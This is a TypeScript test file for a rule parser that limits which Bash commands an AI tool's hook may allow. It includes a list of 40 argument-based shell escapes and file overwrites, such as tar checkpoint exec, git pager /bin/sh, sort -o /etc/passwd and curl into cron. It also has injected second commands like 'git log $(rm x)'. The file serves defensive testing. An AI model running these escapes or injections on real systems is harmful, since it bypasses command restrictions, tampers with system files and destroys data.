import { describe, expect, test } from 'vitest';
import { fitsHookRule, readHookRules } from '../../src/commands/door/hook-rules.ts';
import { nonEmpty } from '../support/non-empty.ts';

const read = (rule: string) => readHookRules(`rules:\n  - ${rule}\n`, 'hook.yml');
const allows = (rule: string, command: string) =>
  read(rule).rules.some((each) => fitsHookRule(each, 'Bash', { command }));

/** Commands without any character that is special to a shell, each of which runs another program or reads or writes any file. */
const ESCAPES = [
  'tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh',
  'git -c core.pager=/bin/sh -p help',
  'git -p help config',
  'git log --output=/etc/cron.d/job',
  'git status --porcelain -c core.fsmonitor=/tmp/run',
  'git help status -p',
  'find . -exec /bin/sh -p',
  'find / -name x -fprintf /tmp/f x',
  'awk -f /tmp/script.awk',
  'sed -n 1e/tmp/run /etc/hosts',
  'sort -o /etc/passwd /tmp/passwd',
  'sort --compress-program=/tmp/run -S1b /etc/passwd',
  'npm test --node-options=--require=/tmp/run.js',
  'npm test --script-shell=/tmp/run',
  'npm exec /bin/sh',
  'env /bin/sh',
  'nice /bin/sh',
  'timeout 7d /bin/sh',
  'xargs -a /dev/null sh',
  'vim -c :py3f/tmp/run.py',
  'less /etc/shadow',
  'man -P /tmp/run man',
  'ssh -o ProxyCommand=/tmp/run x',
  'scp -S /tmp/run x y:',
  'rsync -e /tmp/run x:/y /z',
  'curl -o /etc/cron.d/job https://example.com/job',
  'wget --use-askpass=/tmp/run x',
  'zip /tmp/a.zip /etc/hosts -T -TT /tmp/run',
  'docker run -v /:/mnt alpine sh',
  'make -s --eval=x -f /tmp/Makefile',
  'python3 /tmp/run.py',
  'node --require /tmp/run.js',
  'perl /tmp/run.pl',
  'ls --color -la /root',
  'cat /etc/shadow',
  'cp /tmp/passwd /etc/passwd',
  'systemctl link /tmp/x.service',
  'strace -o /dev/null /bin/sh',
  'gdb -nx -x /tmp/run',
  'tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/run',
];

describe('what a rule allows', () => {
  test('a command is allowed as it is written, and in no other way', () => {
    const rule = '{ tool: Bash, command: "npm run lint && npm test", do: allow }';
    expect(allows(rule, 'npm run lint && npm test')).toBe(true);
    for (const other of ['npm run lint', 'npm run lint && npm test ', 'npm run lint && npm test -- -w'])
      expect(allows(rule, other)).toBe(false);
  });

  test('a list is allowed word by word, whatever blanks stand between the words', () => {
    const rule = '{ tool: Bash, command: [git, status], do: allow }';
    expect(allows(rule, 'git  status')).toBe(true);
    for (const other of ['git', 'git status -s', 'git statusx', 'GIT_PAGER=x git status', 'git "status"'])
      expect(allows(rule, other)).toBe(false);
  });

  test('a list that ends with a star takes any words, and of the options those that are named', () => {
    const rule = '{ tool: Bash, command: [npm, test, "*"], options: [--silent], do: allow }';
    for (const fine of ['npm test', 'npm test unit', 'npm test --silent unit'])
      expect(allows(rule, fine)).toBe(true);
    for (const other of ['npm test --silent=1', 'npm test -- -w', 'npm run', 'npm test unit; rm x'])
      expect(allows(rule, other)).toBe(false);
  });

  test('a pattern with any arguments allows what it matches, but no second command', () => {
    const rule = '{ tool: Bash, command: "git *", any_arguments: true, do: allow }';
    expect(allows(rule, 'git log --output=x')).toBe(true);
    for (const other of ['git log; rm x', 'git log\nrm x', 'git log $(rm x)'])
      expect(allows(rule, other)).toBe(false);
  });

  test('of 40 commands that leave their program by an argument none is allowed by a list for that program', () => {
    for (const line of nonEmpty(ESCAPES)) {
      const [program = '', second = ''] = line.split(' ');
      expect(() => read(`{ tool: Bash, command: "${program} *", do: allow }`)).toThrow(/any_arguments/);
      expect(
        allows(`{ tool: Bash, command: [${program}, ${JSON.stringify(second)}], do: allow }`, `${line} x`),
      ).toBe(false);
      expect(() => read(`{ tool: Bash, command: [${program}, "*"], options: [], do: allow }`)).toThrow(
        /begins with a program and what it does/,
      );
    }
  });
});

test.each([
  ['{ tool: Bash, command: "git *", do: allow }', /^hook\.yml: rules\.0: "git \*" allows every argument/],
  ['{ tool: Bash, command: [git, "*"], options: [], do: allow }', /begins with a program and what it does/],
  ['{ tool: Bash, command: [git, log, "*"], do: allow }', /"options", the options that may stand there/],
  ['{ tool: Bash, command: [git, "lo*", log], do: allow }', /at the end of the list only/],
  ['{ tool: Bash, command: ["*"], options: [], do: allow }', /begins with a program and what it does/],
  ['{ tool: Bash, command: [git, log], options: [-p], do: allow }', /and no other/],
  ['{ tool: Bash, command: git, any_arguments: true, do: allow }', /is for a pattern with "do: allow"/],
  ['{ tool: Bash, command: "rm *", any_arguments: true, do: deny }', /is for a pattern with "do: allow"/],
  ['{ tool: Bash, do: slack }', /a rule with "do: slack" has a "policy", and no other/],
  ['{ tool: Bash, comand: git, do: allow }', /comand/],
])('%s is refused with the reason', (rule, problem) => {
  expect(() => read(rule)).toThrow(problem);
});

test('a pattern still denies and asks: only what is allowed has to be exact', () => {
  const { rules } = readHookRules(
    'rules: [{ tool: Bash, command: "rm *", do: deny }, { tool: Bash, command: "deploy *", do: slack, policy: one }]',
    'hook.yml',
  );
  const [deny, slack] = rules;
  expect(deny && fitsHookRule(deny, 'Bash', { command: 'rm -rf / ; true' })).toBe(true);
  expect(slack && fitsHookRule(slack, 'Bash', { command: 'deploy $(x)' })).toBe(true);
});
